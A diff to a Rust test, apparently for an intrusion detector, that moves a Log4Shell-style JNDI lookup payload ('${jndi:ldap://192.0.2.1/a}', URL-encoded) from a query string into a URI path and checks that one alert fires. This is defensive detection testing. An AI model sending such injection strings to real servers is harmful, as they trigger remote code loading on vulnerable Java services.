@@ -170,11 +170,11 @@ fn open_to_the_outside() {
 #[test]
 fn lookups_in_java() {
     check(
-        "tx http/request 198.51.100.7 > 10.0.0.9:80 http.uri=/?q=%24%7Bjndi:ldap://192.0.2.1/a%7D",
-        "tx http/request 198.51.100.7 > 10.0.0.9:80 http.uri=/?q=%24jndi:ldap",
-        "tx http/request 198.51.100.7 > 10.0.0.9:80 http.uri=/?price=%24%7B12%7D",
+        "tx http/request 198.51.100.7 > 10.0.0.9:80 http.uri=/q/%24%7Bjndi:ldap://192.0.2.1/a%7D",
+        "tx http/request 198.51.100.7 > 10.0.0.9:80 http.uri=/q/%24jndi:ldap",
+        "tx http/request 198.51.100.7 > 10.0.0.9:80 http.uri=/price/%24%7B12%7D",
         expect![
-            "JndiLookup 198.51.100.7: 198.51.100.7 sent 1 requests with a lookup expression to 10.0.0.9:80: /?q=%24%7Bjndi:ldap://192.0.2.1/a%7D [src ip 198.51.100.7 and dst ip 10.0.0.9 and dst port 80]"
+            "JndiLookup 198.51.100.7: 198.51.100.7 sent 1 requests with a lookup expression to 10.0.0.9:80: /q/%24%7Bjndi:ldap://192.0.2.1/a%7D [src ip 198.51.100.7 and dst ip 10.0.0.9 and dst port 80]"
         ],
     );
     check(
